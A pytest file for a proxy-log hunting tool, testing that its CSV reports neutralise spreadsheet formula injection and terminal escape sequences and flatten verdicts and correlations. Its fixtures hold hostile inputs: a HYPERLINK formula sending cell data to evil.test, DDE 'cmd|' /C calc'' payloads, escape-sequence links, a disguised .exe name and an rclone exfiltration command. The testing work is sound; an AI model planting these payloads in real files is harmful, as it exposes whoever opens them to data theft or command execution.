"""CSV report: formula injection, control characters, flattened verdicts and correlations, from real hunts."""

from __future__ import annotations

import copy
import csv
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from proxyhunt.hunt import HuntResult, hunt
from proxyhunt.report.csv import EXCEL_CELL_CHARACTERS, spreadsheet_cell, write_csv

FORMULA_PAYLOAD = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"
HOSTILE_USER_AGENT = "rclone/v1.66.0 \x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07\x9b31m\u202etxt.exe"


def jsonl_line(**values: object) -> str:
    event = {
        "TimeGenerated": "2026-11-03T01:58:13Z",
        "SrcIpAddr": "10.0.0.5",
        "DstHostname": "bucket.example",
        "Url": "http://bucket.example/upload",
        "HttpRequestMethod": "PUT",
        "HttpUserAgent": "rclone/v1.66.0",
        "SrcBytes": 1048576,
        "DstBytes": 100,
    }
    event.update(values)
    return json.dumps(event)


def hostile_hunt(tmp_path: Path) -> HuntResult:
    """Hunt a JSON Lines log whose attacker-controlled fields carry formulas and escape sequences."""
    log = tmp_path / "proxy.jsonl"
    lines = [
        jsonl_line(SrcUsername=FORMULA_PAYLOAD, DstHostname="@SUM(1+1)*cmd|' /C calc'!A0"),
        jsonl_line(TimeGenerated="2026-11-03T01:59:13Z", HttpUserAgent=HOSTILE_USER_AGENT, Url="-2+3+cmd|' /C calc'!A0"),
        jsonl_line(TimeGenerated="2026-11-03T02:00:13Z", HttpUserAgent="curl/8.5.0"),
    ]
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return hunt([str(log)])


def add_verdicts(result: HuntResult) -> None:
    """Mark the first finding suppressed by a filter and add a correlation finding, as the tuning step will."""
    first = result.findings[0]
    first["Verdict"] = "suppressed"
    first["Suppressions"] = [
        {
            "filter_id": "9a7c0c43-0f0e-4a39-9a4f-2f3a1d9c6d10",
            "filter_title": "Known backup destinations",
            "filter_source": "filters/backup.yml",
            "values": {"DstHostname": first["DstHostname"], "SrcUsername": first["SrcUsername"]},
        }
    ]
    for finding in result.findings[1:]:
        finding["Verdict"] = "alert"
        finding["Suppressions"] = []

    correlation = {key: None for key in first}
    correlation.update(
        RuleId="5d2c5d44-1a6b-4c4f-8a3e-0c1f8f0e7b21",
        RuleTitle="Many rclone uploads from one source",
        RuleLevel="high",
        RuleTags=["attack.exfiltration"],
        RuleSource="rules/rclone_burst.yml",
        RuleType="correlation",
        Verdict="alert",
        Suppressions=[],
        CorrelationType="event_count",
        GroupBy={"SrcIpAddr": "10.0.0.5"},
        WindowStart=datetime(2026, 11, 3, 1, 55),
        WindowEnd=datetime(2026, 11, 3, 2, 5),
        Value=2,
        Events=[
            {"RuleId": first["RuleId"], "SourceFile": first["SourceFile"], "SourceLine": 1},
            {"RuleId": first["RuleId"], "SourceFile": first["SourceFile"], "SourceLine": 2},
        ],
        SrcIpAddr="10.0.0.5",
    )
    result.findings.append(correlation)


def read_csv(path: Path) -> tuple[bytes, list[dict[str, str]]]:
    raw = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return raw, list(csv.DictReader(handle))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A2)", "'+SUM(A1:A2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\\x09=1+1"),
        ("\r=1+1", "'\\x0d=1+1"),
        ("   =1+1", "'   =1+1"),
        (FORMULA_PAYLOAD, "'" + FORMULA_PAYLOAD),
        ("rclone/v1.66.0", "rclone/v1.66.0"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cell_neutralizes_formula(value: str, expected: str) -> None:
    assert spreadsheet_cell(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\", "\\x1b]8;;http://evil.test\\x1b\\click\\x1b]8;;\\x1b\\"),
        ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
        ("a\x9b31mb\x85c", "a\\x9b31mb\\x85c"),
        ("invoice\u202etxt.exe", "invoice\\u202etxt.exe"),
        ("\u2066x\u2069\u200f\u061c", "\\u2066x\\u2069\\u200f\\u061c"),
        ("line\nbreak", "line\\x0abreak"),
    ],
)
def test_cell_shows_control_characters(value: str, expected: str) -> None:
    assert spreadsheet_cell(value) == expected


def test_cell_keeps_numbers_and_nulls() -> None:
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(1048576) == 1048576
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "true"
    assert spreadsheet_cell(datetime(2026, 11, 3, 1, 58, 13)) == "2026-11-03 01:58:13"


def test_cell_cut_to_excel_limit() -> None:
    cell = spreadsheet_cell("x" * 100_000)

    assert len(cell) <= EXCEL_CELL_CHARACTERS
    assert cell.endswith("more characters in the JSON Lines output)")
    assert "67333 more characters" in cell


def test_csv_from_hunt_is_neutralized(tmp_path: Path) -> None:
    result = hostile_hunt(tmp_path)
    target = tmp_path / "findings.csv"

    count = write_csv(result, target)
    raw, rows = read_csv(target)

    assert count == 2
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    assert b"\x1b" not in raw
    assert "\u202e".encode() not in raw
    assert [row["Verdict"] for row in rows] == ["alert", "alert"]
    assert [row["RuleType"] for row in rows] == ["detection", "detection"]
    assert rows[0]["SrcUsername"] == "'" + FORMULA_PAYLOAD
    assert rows[0]["DstHostname"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["Url"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[1]["HttpUserAgent"].startswith("rclone/v1.66.0 \\x1b]8;;http://evil.test")
    assert rows[0]["SrcBytes"] == "1048576"
    assert rows[0]["TimeGenerated"] == "2026-11-03 01:58:13"
    assert rows[0]["RuleTags"] == "attack.exfiltration, attack.t1567.002"
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), f"{column} starts a formula: {cell!r}"


def test_csv_flattens_suppressions_and_correlations(tmp_path: Path) -> None:
    result = hostile_hunt(tmp_path)
    add_verdicts(result)
    target = tmp_path / "findings.csv"

    count = write_csv(result, target)
    _, rows = read_csv(target)

    assert count == 3
    suppressed, alert, correlation = rows
    assert suppressed["Verdict"] == "suppressed"
    assert suppressed["Suppressions"] == (
        "Known backup destinations: DstHostname=@SUM(1+1)*cmd|' /C calc'!A0, SrcUsername=" + FORMULA_PAYLOAD
    )
    assert alert["Verdict"] == "alert"
    assert alert["Suppressions"] == ""
    assert correlation["RuleType"] == "correlation"
    assert correlation["CorrelationType"] == "event_count"
    assert correlation["GroupBy"] == "SrcIpAddr=10.0.0.5"
    assert correlation["WindowStart"] == "2026-11-03 01:55:00"
    assert correlation["WindowEnd"] == "2026-11-03 02:05:00"
    assert correlation["Value"] == "2"
    source = str(tmp_path / "proxy.jsonl")
    assert correlation["Events"] == f"{source}:1; {source}:2"


def test_csv_tolerates_findings_without_new_keys(tmp_path: Path) -> None:
    result = hostile_hunt(tmp_path)
    for finding in result.findings:
        for key in ("Verdict", "RuleType", "Suppressions"):
            finding.pop(key, None)

    write_csv(result, tmp_path / "old.csv")
    _, rows = read_csv(tmp_path / "old.csv")

    assert [row["Verdict"] for row in rows] == ["alert", "alert"]
    assert [row["Suppressions"] for row in rows] == ["", ""]


def test_csv_keeps_extra_columns(tmp_path: Path) -> None:
    result = hostile_hunt(tmp_path)
    findings = copy.deepcopy(result.findings)
    findings[0]["ProcessCommandLine"] = "=rclone copy C:\\finance s3:bucket"
    result.findings = findings

    write_csv(result, tmp_path / "process.csv")
    _, rows = read_csv(tmp_path / "process.csv")

    assert rows[0]["ProcessCommandLine"] == "'=rclone copy C:\\finance s3:bucket"
    assert rows[1]["ProcessCommandLine"] == ""


def run_cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "120"}
    result = subprocess.run(
        [sys.executable, "-m", "proxyhunt", *args], capture_output=True, text=True, env=env, timeout=120
    )
    assert "Traceback" not in result.stderr
    return result


def test_cli_writes_csv(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n", encoding="utf-8")
    target = tmp_path / "out.csv"

    result = run_cli("hunt", str(log), "--csv", str(target), "--quiet")

    assert result.returncode == 1
    _, rows = read_csv(target)
    assert len(rows) == 1
    assert rows[0]["HttpUserAgent"] == "rclone/v1.66.0"


def test_cli_csv_onto_input_rejected(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n", encoding="utf-8")
    before = log.read_bytes()

    result = run_cli("hunt", str(log), "--csv", str(log))

    assert result.returncode == 2
    assert "--csv" in result.stderr
    assert "is also an input log" in result.stderr
    assert log.read_bytes() == before


def test_cli_csv_and_html_same_file_rejected(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n", encoding="utf-8")
    target = tmp_path / "report.out"

    result = run_cli("hunt", str(log), "--html", str(target), "--csv", str(target))

    assert result.returncode == 2
    assert "name the same file" in result.stderr
    assert not target.exists()


def test_cli_csv_dash_rejected(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n", encoding="utf-8")

    result = run_cli("hunt", str(log), "--csv", "-")

    assert result.returncode == 2
    assert "--csv - is not supported" in result.stderr


def test_cli_csv_unwritable_directory(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n", encoding="utf-8")

    result = run_cli("hunt", str(log), "--csv", str(tmp_path / "missing" / "out.csv"))

    assert result.returncode == 2
    assert "cannot write" in result.stderr
    assert "--csv" in result.stderr


KNOWN_HOST_FILTER = """\
title: Exclude rclone uploads to the backup host
id: 0f1d6a7e-2b7c-4c55-9d64-3f0f3c1b2a10
logsource:
    category: proxy
filter:
    rules:
        - 2c03648b-e081-41a5-b9fb-7d854a915091
    backup_host:
        DstHostname: 'backup.example'
    condition: not backup_host
"""


def test_csv_real_filter_suppression(tmp_path: Path) -> None:
    log = tmp_path / "proxy.jsonl"
    log.write_text(jsonl_line() + "\n" + jsonl_line(DstHostname="backup.example") + "\n", encoding="utf-8")
    rule = tmp_path / "backup-filter.yml"
    rule.write_text(KNOWN_HOST_FILTER, encoding="utf-8")

    write_csv(hunt([str(log)], rule_paths=[str(rule)]), tmp_path / "out.csv")
    _, rows = read_csv(tmp_path / "out.csv")

    by_host = {row["DstHostname"]: row for row in rows}
    assert by_host["bucket.example"]["Verdict"] == "alert"
    assert by_host["bucket.example"]["Suppressions"] == ""
    assert by_host["backup.example"]["Verdict"] == "suppressed"
    assert by_host["backup.example"]["Suppressions"] == "Exclude rclone uploads to the backup host: DstHostname=backup.example"
